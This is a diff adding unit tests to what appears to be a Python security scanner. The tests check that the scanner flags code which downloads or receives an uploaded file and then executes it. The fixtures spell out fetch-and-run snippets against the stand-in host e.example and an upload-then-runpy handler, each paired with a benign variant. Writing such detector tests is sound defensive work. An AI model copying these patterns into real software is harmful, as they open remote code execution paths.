@@ -112,3 +112,33 @@ def test_a_format_string_of_an_outsider_is_likely_to_leak_what_its_arguments_hol
     assert finding.probe == CODE
     assert 0.6 <= finding.confidence < 0.8
     assert found["shop0/benign.py"] == []
+
+
+FETCH = "import os, pathlib, runpy, shutil, subprocess, sys, importlib, hashlib, tempfile\nimport requests, urllib.request\nfrom flask import request\n"
+BODY = 'requests.get("https://e.example/x", timeout=5)'
+WRITTEN: list[Case] = [
+    ('written and started', SHELL, f'def f():\n    with open("/tmp/plug.py", "wb") as out:\n        out.write({BODY}.content)\n    subprocess.run([sys.executable, "/tmp/plug.py"], check=True)\n', f'def f():\n    with open("/tmp/data.csv", "wb") as out:\n        out.write({BODY}.content)\n    subprocess.run([sys.executable, "/srv/plug.py"], check=True)\n'),
+    ('fetched and started', SHELL, 'def f():\n    path = pathlib.Path.home() / "tool"\n    urllib.request.urlretrieve("https://e.example/x", path)\n    os.chmod(path, 0o755)\n    subprocess.run([str(path), "-v"], check=True)\n', 'def f():\n    path = pathlib.Path.home() / "data"\n    urllib.request.urlretrieve("https://e.example/x", path)\n    subprocess.run(["ls", "-v"], check=True)\n    return path\n'),
+    ('written and imported', CODE, f'def f():\n    pathlib.Path("plug.py").write_text({BODY}.text)\n    importlib.import_module("plug")\n', f'def f():\n    pathlib.Path("plug.json").write_text({BODY}.text)\n    importlib.import_module("json")\n'),
+    ('uploaded and run', CODE, 'def f():\n    up = request.files["f"]\n    up.save("/srv/x.py")\n    runpy.run_path("/srv/x.py")\n', 'def f():\n    request.files["f"].stream.read()\n    runpy.run_path("/srv/x.py")\n'),
+    ('a temporary file', SHELL, f'def f():\n    with tempfile.NamedTemporaryFile(delete=False) as out:\n        out.write({BODY}.content)\n    subprocess.run(["bash", out.name], check=True)\n', 'def f():\n    with tempfile.NamedTemporaryFile(delete=False) as out:\n        out.write(b"echo 1")\n    subprocess.run(["bash", out.name], check=True)\n'),
+    ('copied from an answer', SHELL, 'def f(path):\n    with urllib.request.urlopen("https://e.example/x", timeout=5) as answer, open(path, "wb") as out:\n        shutil.copyfileobj(answer, out)\n    subprocess.check_call(["sh", path])\n', 'def f(path, other):\n    with urllib.request.urlopen("https://e.example/x", timeout=5) as answer, open(path, "wb") as out:\n        shutil.copyfileobj(answer, out)\n    subprocess.check_call(["sh", other])\n'),
+]  # fmt: skip
+
+
+def test_a_file_that_is_downloaded_or_uploaded_and_then_run_is_a_likely_finding(tmp_path: Path) -> None:
+    cases = [(name, probe, FETCH + hostile, FETCH + benign) for name, probe, hostile, benign in WRITTEN]
+    found = evidence_by_case(tmp_path, cases)
+    for number, (name, probe, *_) in enumerate(WRITTEN):
+        flows = [each for each in found[f"shop{number}/hostile.py"] if " reaches `" in each.statement]
+        assert [each.probe for each in flows] == [probe], name
+        assert 0.6 <= flows[0].confidence < 0.8, name
+        assert [each.statement for each in found[f"shop{number}/benign.py"] if " reaches `" in each.statement] == []
+
+
+def test_a_download_whose_digest_is_worked_out_before_it_runs_is_only_possible(tmp_path: Path) -> None:
+    check = "    if hashlib.sha256(body).hexdigest() != wanted:\n        raise ValueError(path)\n"
+    run = "    pathlib.Path(path).write_bytes(body)\n    subprocess.run([path], check=True)\n"
+    source = f"{FETCH}def f(path, wanted):\n    body = {BODY}.content\n{check}{run}"
+    (finding,) = evidence_by_case(tmp_path, [("checked", SHELL, source, "")])["shop0/hostile.py"]
+    assert finding.confidence <= 0.5
